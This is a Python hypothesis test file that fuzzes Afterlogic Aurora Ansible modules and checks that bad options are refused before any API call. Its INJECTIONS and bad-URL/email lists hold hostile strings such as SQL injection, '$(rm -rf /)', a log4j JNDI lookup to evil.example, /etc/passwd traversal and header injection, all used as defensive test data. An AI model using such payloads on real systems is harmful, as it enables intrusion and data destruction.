"""Invalid and hostile arguments for every module, generated with hypothesis and run through each module's real main().

Each example is a task that would be valid (and would write to Aurora: create, update or delete) but for one bad
option: a wrong type, an empty or huge value, unicode, an injection-looking string, a port out of range, a malformed
address or domain, an unknown option, a bad item of a bulk module's list. For every one the module must fail with a
message that names the offending option, print no traceback, and leave Aurora untouched: no API call at all (so no
write), and the emulator's state exactly as before.

The examples are derandomized (the same ones on every run) and counted as they are tried; the count, which must reach
1,000, is recorded as the figures "bad-input" (build/reliability/bad-input.json).
"""

import decimal
import os
import re
import string

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ansible_collections.afterlogic.aurora.plugins.module_utils._mail_server import mail_server_argument_spec
from ansible_collections.afterlogic.aurora.plugins.module_utils._module import (
    MAX_TEXT_LENGTH,
    connection_argument_spec,
)
from ansible_collections.afterlogic.aurora.plugins.module_utils._user_account import user_account_argument_spec
from tests.helpers.figures import figures_fixture
from tests.helpers.module_runner import module_task, run_module

MIN_EXAMPLES = 1000
EXAMPLES = {  # per test; 1,100 in all
    'aurora_api_token': 150,
    'aurora_mail_server': 300,
    'aurora_user_account': 250,
    'aurora_mail_servers': 150,
    'aurora_user_accounts': 150,
    'too_long': 100,
}

figures = figures_fixture('bad-input')


PHASES = [Phase.explicit, Phase.generate, Phase.shrink] if os.environ.get('BAD_INPUT_SHRINK') else \
    [Phase.explicit, Phase.generate]  # no shrinking by default: a failure shows its example at once


def examples(count):
    return settings(max_examples=count, deadline=None, phases=PHASES, derandomize=True, database=None, print_blob=False,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large, HealthCheck.filter_too_much])


# ---- valid tasks (each would write if it were run) ---------------------------------------------------------------

SERVER = dict(name='mydomain', incoming_server='mail.mydomain.com', incoming_port=143, outgoing_port=25,
              smtp_auth_type='user_credentials', domains=['mydomain.com'])
ACCOUNT = dict(email='user@mydomain.com', password='Seed-Secret-1', server='mydomain', friendly_name='User')

SERVER_TASKS = [
    dict(SERVER, incoming_port=993, incoming_use_ssl=True),                                  # update
    dict(name='fresh', incoming_server='imap.fresh.example', domains=['fresh.example']),     # create
    dict(name='relay', incoming_server='imap.relay.example', domains=['relay.example'],      # create with a secret
         smtp_auth_type='specified_credentials', smtp_login='relay', smtp_password='Relay-Secret-1'),
    dict(name='mydomain', state='absent', force=True),                                       # delete
    dict(SERVER, smtp_password='New-Secret-2', update_password='always'),                   # update the secret
]
ACCOUNT_TASKS = [
    dict(ACCOUNT, friendly_name='Renamed', update_password='always', password='New-Secret-3'),  # update
    dict(email='new@mydomain.com', password='New-Secret-4', server='mydomain'),                # create
    dict(email='new@mydomain.com', password='New-Secret-5', role='tenant_admin', disabled=True),
    dict(email='user@mydomain.com', state='absent'),                                          # delete
]

SERVER_OPTIONS = mail_server_argument_spec()
ACCOUNT_OPTIONS = user_account_argument_spec()
CONNECTION_OPTIONS = connection_argument_spec()


# ---- bad values ---------------------------------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE users; --", '" OR "1"="1', '<script>alert(1)</script>', '$(rm -rf /)', '`id`',
    "{{ lookup('pipe', 'id') }}", '${jndi:ldap://evil.example/a}', '../../../../etc/passwd', '%00', '%0d%0aSet-Cookie: a=b',
    '\u202eevil', '\ufeff', 'Robert\'); DROP TABLE Students;--', '|| ping -c 1 evil.example', '<!--#exec cmd="id"-->',
]
CONTROL_CHARACTERS = [chr(code) for code in range(32)] + ['\x7f']


def long_text(alphabet=None):
    """Text longer than Aurora's varchar(255): a unit (unicode included) repeated to 256..4,000 characters."""
    unit = st.text(alphabet=alphabet, min_size=1, max_size=6) if alphabet else st.text(min_size=1, max_size=6)
    return st.builds(lambda piece, size: (piece * (size // len(piece) + 1))[:size],
                     unit, st.integers(MAX_TEXT_LENGTH + 1, 4000))


def with_inserted(text_strategy, inserted):
    """A text with one of ``inserted`` somewhere in it."""
    return st.builds(lambda text, extra, at: text[:at % (len(text) + 1)] + extra + text[at % (len(text) + 1):],
                     text_strategy, st.sampled_from(inserted), st.integers(0, 50))


def inside(text_strategy, inserted):
    """A text with one of ``inserted`` between two of its characters (surrounding spaces are removed, as documented)."""
    return st.builds(lambda text, extra, at: text[:1 + at % (len(text) - 1)] + extra + text[1 + at % (len(text) - 1):],
                     text_strategy, st.sampled_from(inserted), st.integers(0, 50))


SOME_TEXT = st.text(max_size=20)
WITH_CONTROL = with_inserted(SOME_TEXT, CONTROL_CHARACTERS)
SPACES = [' ', '\t', '\n', '\u00a0', '\u2028', '\u3000']
WITH_SPACE = with_inserted(st.text(alphabet=string.ascii_letters + '.-', max_size=20), SPACES)
NOT_A_NUMBER = st.one_of(st.sampled_from(['inf', '-Infinity', 'nan', '1e5000', '-1e4400', '1e-999999']),
                         st.sampled_from([float('inf'), float('-inf'), float('nan')]),
                         st.text(min_size=1, max_size=10).filter(lambda text: not _number_text(text)),
                         st.lists(st.integers(), max_size=3),
                         st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=2),
                         st.floats(allow_nan=False, allow_infinity=False).filter(lambda value: value != int(value)),
                         st.sampled_from(INJECTIONS))
BAD_PORT = st.one_of(st.integers(max_value=0), st.integers(min_value=65536), st.integers(65536, 10 ** 15).map(float),
                     st.booleans(), NOT_A_NUMBER)
BAD_PORT_OR_ZERO = st.one_of(st.integers(max_value=-1), st.integers(min_value=65536), st.booleans(), NOT_A_NUMBER)
BOOLEAN_WORDS = {'1', '0', 'true', 'false', 'yes', 'no', 'on', 'off', 'y', 'n', 't', 'f', '1.0', '0.0'}
BAD_BOOL = st.one_of(st.text(min_size=1, max_size=12).filter(lambda text: text.strip().lower() not in BOOLEAN_WORDS),
                     st.integers().filter(lambda number: number not in (0, 1)), st.lists(st.booleans(), min_size=1, max_size=3),
                     st.sampled_from(INJECTIONS))
BAD_TIMEOUT = st.one_of(st.integers(max_value=0), NOT_A_NUMBER)
BAD_URL = st.one_of(st.sampled_from([
    '', ' ', 'mail.example.com', 'ftp://mail.example.com/', 'file:///etc/passwd', 'javascript:alert(1)', 'http://',
    'https://', 'http:///webmail/', '//mail.example.com/', 'http://mail example.com/', 'http://[::1/', 'gopher://x',
    'http://exa\nmple.com/', 'https://mail.example.com/web mail/', 'data:text/html,<script>alert(1)</script>',
    "http://'; DROP TABLE users; --", 'ht tp://mail.example.com/', '\x00http://mail.example.com/']),
    st.text(alphabet=string.ascii_letters + string.digits + '.-/', max_size=30),
    st.builds('{}://{}'.format, st.sampled_from(['ftp', 'file', 'smb', 'ldap', 'ws', 'htt', 'httpx']),
              st.text(alphabet=string.ascii_lowercase + '.', min_size=1, max_size=15)))


def _number_text(text):
    """Whether ansible-core reads ``text`` as a number ('inf' and '1e5000' included: NOT_A_NUMBER lists them)."""
    try:
        decimal.Decimal(text)
    except (decimal.DecimalException, ValueError):
        return False
    return not decimal.Decimal(text).is_finite() or abs(decimal.Decimal(text).adjusted()) > 30 or \
        decimal.Decimal(text) == decimal.Decimal(text).to_integral_value()


def bad_choice(choices):
    return st.one_of(st.text(max_size=20), st.sampled_from(INJECTIONS),
                     st.sampled_from([choice.upper() for choice in choices] + [' %s' % choices[0], choices[0] + '\n']),
                     st.integers()).filter(lambda value: str(value) not in choices)


def unknown_option(known):
    return st.from_regex(r'\A[a-z][a-z0-9_]{0,15}\Z').filter(lambda name: name not in known)


BAD_DOMAIN = st.one_of(
    st.sampled_from([
        '', ' ', '.', '..', '.com', 'com.', 'a..com', '-a.com', 'a-.com', 'a b.com', 'a_b.com', 'ex\u00e4mple.com',
        '\u4f8b\u3048.jp', '*.example.com', 'a*.com', 'user@example.com', 'example.com/path', 'example.com:25',
        'a.com\nb.com', 'a.com\r\nb.com', 'a.com\x00', 'a.com;b.com', 'a.com,b.com', 'http://a.com', '[::1]',
        'x' * 64 + '.com', '.'.join(['a' * 50] * 6)]),
    st.sampled_from(INJECTIONS),
    long_text(string.ascii_lowercase + '.'),
    inside(st.text(alphabet=string.ascii_lowercase + '.', min_size=2, max_size=20), [' ', '\n', '\t', '/', '@', '_', '!',
                                                                                     '\u00e9', '\x00']))
BAD_EMAIL = st.one_of(
    st.sampled_from([
        '', ' ', '@', 'user', 'user@', '@mydomain.com', 'two@at@mydomain.com', 'bad name@mydomain.com',
        'us\u00e9r@mydomain.com', 'user@m\u00fcdomain.com', 'user@mydomain.com\nBcc: x@evil.example',
        'user@my domain.com', '"quoted"@mydomain.com', 'user(comment)@mydomain.com', '<user@mydomain.com>',
        'user@mydomain.com, other@mydomain.com', 'user;drop@mydomain.com']),
    st.sampled_from(INJECTIONS),
    st.builds('{}@mydomain.com'.format, long_text(string.ascii_lowercase)),
    inside(st.just('user@mydomain.com'),
           [' ', '\t', '\n', '\x00', '@', '"', '<', '>', ',', ';', '\u00e9', '\u202e', '(', ')', '[', ']', '\\']))
BAD_HOST = st.one_of(st.just(''), WITH_SPACE, WITH_CONTROL.filter(lambda text: re.search(r'[\s\x00-\x1f\x7f]', text)),
                     long_text(string.ascii_lowercase + '.'))
BAD_NAME = st.one_of(st.sampled_from(['', ' ', '   ', ' lead', 'trail ', '\t', '\n']),
                     st.builds(' {}'.format, SOME_TEXT), st.builds('{}\n'.format, SOME_TEXT),
                     WITH_CONTROL, long_text())
EMPTY_OR_BLANK = st.text(alphabet=' \t\n\r\u00a0\u2003', max_size=4)


# ---- cases: (options to set or replace, option names the message must contain, options to remove) -----------------

def case(options, *names, removed=()):
    return dict(options=options, names=names, removed=removed)


def one_option(option, strategy, *names):
    return strategy.map(lambda value: case({option: value}, *(names or (option,))))


def connection_cases():
    return st.one_of(
        one_option('api_url', BAD_URL),
        one_option('timeout', BAD_TIMEOUT),
        one_option('validate_certs', BAD_BOOL),
        st.just(case({'api_password': None, 'api_token': None}, 'api_password', 'api_token')),
        unknown_option(CONNECTION_OPTIONS).flatmap(
            lambda name: st.one_of(SOME_TEXT, st.integers(), st.sampled_from(INJECTIONS)).map(
                lambda value: case({name: value}, name))),
    )


def external_access_cases():
    service = st.sampled_from(['imap', 'smtp', 'pop3'])
    return st.one_of(
        st.tuples(service, BAD_PORT).map(lambda c: case({'external_access': {c[0]: {'port': c[1]}}},
                                                        'external_access', c[0], 'port')),
        st.tuples(service, BAD_PORT_OR_ZERO).map(lambda c: case({'external_access': {c[0]: {'alter_port': c[1]}}},
                                                                'external_access', c[0], 'alter_port')),
        st.tuples(service, st.one_of(WITH_SPACE, long_text(string.ascii_lowercase + '.'))).map(
            lambda c: case({'external_access': {c[0]: {'server': c[1]}}}, 'external_access', c[0], 'server')),
        st.tuples(service, BAD_BOOL).map(lambda c: case({'external_access': {c[0]: {'use_ssl': c[1]}}},
                                                        'external_access', c[0], 'use_ssl')),
        service.map(lambda name: case({'external_access': {'enabled': False, name: {'server': 'mail.example.com'}}},
                                      'external_access', name, 'enabled')),
        one_option('external_access', st.one_of(st.integers(), st.lists(st.integers(), min_size=1, max_size=2))),
        st.tuples(service, unknown_option(['server', 'port', 'alter_port', 'use_ssl'])).map(
            lambda c: case({'external_access': {c[0]: {c[1]: 1}}}, 'external_access', c[0], c[1])),
        BAD_BOOL.map(lambda value: case({'external_access': {'enabled': value}}, 'external_access', 'enabled')),
    )


def server_cases():
    """One bad option of a mail server task (also an item of aurora_mail_servers)."""
    return st.one_of(
        one_option('name', BAD_NAME),
        st.just(case({}, 'name', removed=('name',))),
        one_option('state', bad_choice(['present', 'absent'])),
        one_option('incoming_server', BAD_HOST),
        one_option('outgoing_server', BAD_HOST),
        one_option('incoming_port', BAD_PORT),
        one_option('outgoing_port', BAD_PORT),
        one_option('sieve_port', BAD_PORT),
        one_option('smtp_auth_type', bad_choice(['no_authentication', 'specified_credentials', 'user_credentials'])),
        one_option('smtp_login', st.one_of(WITH_CONTROL, long_text())),
        one_option('smtp_password', long_text()),
        one_option('update_password', bad_choice(['always', 'on_create'])),
        one_option('domains', st.one_of(st.just([]), st.lists(BAD_DOMAIN, min_size=1, max_size=3),
                                        st.builds(lambda bad, at: ['mydomain.com', 'other.example'][:at] + [bad],
                                                  BAD_DOMAIN, st.integers(0, 2)),
                                        st.dictionaries(st.text(max_size=5), st.integers(), min_size=1, max_size=2))),
        st.sampled_from(['incoming_use_ssl', 'outgoing_use_ssl', 'enable_threading', 'enable_sieve',
                         'use_full_email_address_as_login', 'force']).flatmap(lambda option: one_option(option, BAD_BOOL)),
        external_access_cases(),
        unknown_option(dict(SERVER_OPTIONS, **CONNECTION_OPTIONS)).flatmap(
            lambda name: st.one_of(SOME_TEXT, st.integers(), st.sampled_from(INJECTIONS)).map(lambda v: case({name: v}, name))),
    )


def account_cases():
    """One bad option of a user account task (also an item of aurora_user_accounts)."""
    return st.one_of(
        one_option('email', BAD_EMAIL),
        st.just(case({}, 'email', removed=('email',))),
        one_option('state', bad_choice(['present', 'absent'])),
        one_option('update_password', bad_choice(['on_create', 'always'])),
        one_option('role', bad_choice(['user', 'tenant_admin'])),
        one_option('password', st.one_of(EMPTY_OR_BLANK, long_text())),
        one_option('server', st.one_of(EMPTY_OR_BLANK, long_text())),
        one_option('server_id', st.one_of(st.integers(max_value=0), NOT_A_NUMBER)),
        st.integers(1, 10).map(lambda number: case({'server': 'mydomain', 'server_id': number}, 'server', 'server_id')),
        one_option('incoming_login', st.one_of(EMPTY_OR_BLANK, WITH_CONTROL, long_text())),
        one_option('friendly_name', st.one_of(WITH_CONTROL, long_text())),
        one_option('disabled', BAD_BOOL),
        unknown_option(dict(ACCOUNT_OPTIONS, **CONNECTION_OPTIONS)).flatmap(
            lambda name: st.one_of(SOME_TEXT, st.integers(), st.sampled_from(INJECTIONS)).map(lambda v: case({name: v}, name))),
    )


def task_with(base, bad):
    task = dict(base, **bad['options'])
    for option in bad['removed']:
        task.pop(option, None)
    if 'server_id' in bad['options'] and 'server' not in bad['options']:
        task.pop('server', None)  # only the bad server_id, not "mutually exclusive"
    return task


def single_tasks(bases, bad_cases):
    return st.tuples(st.sampled_from(bases), st.one_of(bad_cases, connection_cases())).map(
        lambda pair: (task_with(pair[0], pair[1]), pair[1]['names']))


# ---- bulk modules ---------------------------------------------------------------------------------------------------

VALID_SERVER_ITEMS = [dict(name='bulk-%d' % number, incoming_server='imap%d.example' % number,
                           domains=['bulk%d.example' % number]) for number in range(3)]
VALID_ACCOUNT_ITEMS = [dict(email='bulk%d@mydomain.com' % number, password='Bulk-Secret-%d' % number,
                            server='mydomain') for number in range(3)]


def items_with_one_bad(valid_items, bases, bad_cases, option):
    """A list of valid items with one bad item (an item with one bad option) somewhere in it."""
    def build(others, base, bad, at):
        items = list(valid_items[:others])
        items.insert(at % (others + 1), task_with(base, bad))
        return {option: items}, (option,) + bad['names']
    return st.builds(build, st.integers(0, len(valid_items)), st.sampled_from(bases), bad_cases, st.integers(0, 3))


def bad_item_lists(option, valid_items, identity, spellings):
    """Items that are not dicts, a list that is not a list, or the same item twice."""
    return st.one_of(
        st.lists(st.one_of(st.integers(), st.floats(allow_nan=False), st.lists(st.integers(), min_size=1, max_size=2)),
                 min_size=1, max_size=3).map(lambda items: ({option: list(valid_items[:1]) + items}, (option,))),
        st.one_of(st.integers(), st.dictionaries(st.sampled_from(['a', 'b']), st.integers(), min_size=1)).map(
            lambda value: ({option: value}, (option,))),
        st.sampled_from(spellings).map(lambda twin: ({option: [valid_items[0], dict(valid_items[1], **{identity: twin})]},
                                                     (option, identity))),
        st.just(({}, (option,))),  # the list itself missing
    )


def bulk_common(option):
    return st.one_of(
        st.one_of(st.integers(max_value=0), NOT_A_NUMBER).map(lambda value: ({'parallel': value}, ('parallel',))),
        connection_cases().map(lambda bad: (bad['options'], bad['names'])),
    )


def mail_servers_tasks():
    moves = st.one_of(
        st.just(([{'from_server_id': 1}], ('email',))),
        NOT_A_NUMBER.map(lambda value: ([{'email': 'a@mydomain.com', 'to_server_id': value}], ('to_server_id',))),
        unknown_option(['email', 'from_server_id', 'to_server_id']).map(
            lambda name: ([{'email': 'a@mydomain.com', name: 1}], (name,))),
        st.integers().map(lambda value: ([value], ())))
    return st.one_of(
        items_with_one_bad(VALID_SERVER_ITEMS, SERVER_TASKS, server_cases(), 'servers'),
        bad_item_lists('servers', VALID_SERVER_ITEMS, 'name', [VALID_SERVER_ITEMS[0]['name']]),
        bulk_common('servers').map(lambda bad: (dict(bad[0], servers=VALID_SERVER_ITEMS), bad[1])),
        moves.map(lambda bad: ({'servers': VALID_SERVER_ITEMS, 'planned_account_moves': bad[0]},
                               ('planned_account_moves',) + bad[1])),
    )


def user_accounts_tasks():
    first = VALID_ACCOUNT_ITEMS[0]['email']
    planned = st.one_of(
        st.just(([{'server_id': 1}], ('name',))),
        NOT_A_NUMBER.map(lambda value: ([{'name': 'mydomain', 'server_id': value}], ('server_id',))),
        st.dictionaries(st.sampled_from(['a']), st.integers(), min_size=1).map(
            lambda value: ([{'name': 'mydomain', 'domains': value}], ('domains',))),
        unknown_option(['name', 'server_id', 'domains']).map(lambda name: ([{'name': 'mydomain', name: 1}], (name,))))
    return st.one_of(
        items_with_one_bad(VALID_ACCOUNT_ITEMS, ACCOUNT_TASKS, account_cases(), 'accounts'),
        bad_item_lists('accounts', VALID_ACCOUNT_ITEMS, 'email', [first, first.upper(), ' %s ' % first, first.title()]),
        bulk_common('accounts').map(lambda bad: (dict(bad[0], accounts=VALID_ACCOUNT_ITEMS), bad[1])),
        planned.map(lambda bad: ({'accounts': VALID_ACCOUNT_ITEMS, 'planned_servers': bad[0]},
                                 ('planned_servers',) + bad[1])),
    )


# ---- the check --------------------------------------------------------------------------------------------------------

@pytest.fixture
def aurora(emulator):
    """The emulator with one mail server and one user with its account, so that a bad task has something to break."""
    emulator.settings({'Mail': {'DoImapLoginOnAccountCreate': False}})
    assert not module_task(emulator, 'aurora_mail_server')(**SERVER).failed
    assert not module_task(emulator, 'aurora_user_account')(**ACCOUNT).failed
    state = emulator.state()
    assert len(state['servers']) == 1 and len(state['accounts']) == 1
    emulator.calls_clear()
    return emulator, state


def names_option(message, name):
    return re.search(r'(?<![A-Za-z0-9])%s(?![A-Za-z0-9])' % re.escape(str(name)), message) is not None


def assert_refused(aurora, figures, module, options, names, check_mode=False):
    emulator, before = aurora
    figures.add('examples tried')
    args = dict(api_url=emulator.url, api_username=emulator.admin_login, api_password=emulator.admin_password)
    args.update(options)
    result = run_module(module, args, check_mode=check_mode)
    calls = emulator.calls()
    assert result.failed, (module, options, result)
    assert 'exception' not in result and 'Traceback' not in result.printed, result.printed
    assert calls == [], (module, options, calls)  # refused before any API call, so no write
    assert emulator.state() == before
    missing = [name for name in names if not names_option(result['msg'], name)]
    assert not missing, 'the message does not name %s: %s' % (missing, result['msg'])
    figures.add('refused naming the option')
    return result


@examples(EXAMPLES['aurora_api_token'])
@given(bad=connection_cases(), check_mode=st.booleans())
def test_aurora_api_token_refuses_bad_connection_options(aurora, figures, bad, check_mode):
    assert_refused(aurora, figures, 'aurora_api_token', task_with({}, bad), bad['names'], check_mode)


@examples(EXAMPLES['aurora_mail_server'])
@given(task=single_tasks(SERVER_TASKS, server_cases()), check_mode=st.booleans())
def test_aurora_mail_server_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_server', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_user_account'])
@given(task=single_tasks(ACCOUNT_TASKS, account_cases()), check_mode=st.booleans())
def test_aurora_user_account_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_user_account', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_mail_servers'])
@given(task=mail_servers_tasks(), check_mode=st.booleans())
def test_aurora_mail_servers_refuses_bad_options_and_items(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_servers', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_user_accounts'])
@given(task=user_accounts_tasks(), check_mode=st.booleans())
def test_aurora_user_accounts_refuses_bad_options_and_items(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_user_accounts', task[0], task[1], check_mode)


def _text_options(spec):
    return sorted(name for name, option in spec.items() if option.get('type', 'str') == 'str' and not option.get('choices'))


LONG_TEXT_TARGETS = (
    [('aurora_mail_server', SERVER_TASKS, option) for option in _text_options(SERVER_OPTIONS)]
    + [('aurora_user_account', ACCOUNT_TASKS, option) for option in _text_options(ACCOUNT_OPTIONS)]
    + [('aurora_mail_servers', SERVER_TASKS, option) for option in _text_options(SERVER_OPTIONS)]
    + [('aurora_user_accounts', ACCOUNT_TASKS, option) for option in _text_options(ACCOUNT_OPTIONS)]
)


@examples(EXAMPLES['too_long'])
@given(target=st.sampled_from(LONG_TEXT_TARGETS), base_index=st.integers(0, 3),
       text=long_text(string.ascii_letters + string.digits + '.-_'))
def test_text_longer_than_aurora_stores_is_refused_up_front(aurora, figures, target, base_index, text):
    """A value Aurora would cut or refuse half-way (varchar(255)) fails the task first, whatever the option."""
    module, bases, option = target
    value = text + '@mydomain.com' if option == 'email' else text
    task = dict(bases[base_index % len(bases)], **{option: value})
    if module.endswith('s'):
        kind = 'servers' if module == 'aurora_mail_servers' else 'accounts'
        options, names = {kind: [task]}, (kind, option)
    else:
        options, names = task, (option,)
    result = assert_refused(aurora, figures, module, options, names)
    assert '%s must be at most %d characters' % (option, MAX_TEXT_LENGTH) in result['msg'], result['msg']


def test_at_least_1000_bad_inputs_were_tried_and_each_refused(figures):
    """Runs last: the count is measured example by example, not taken from the settings."""
    assert figures.get('examples tried', 0) >= MIN_EXAMPLES, figures
    assert figures.get('refused naming the option') == figures.get('examples tried'), figures
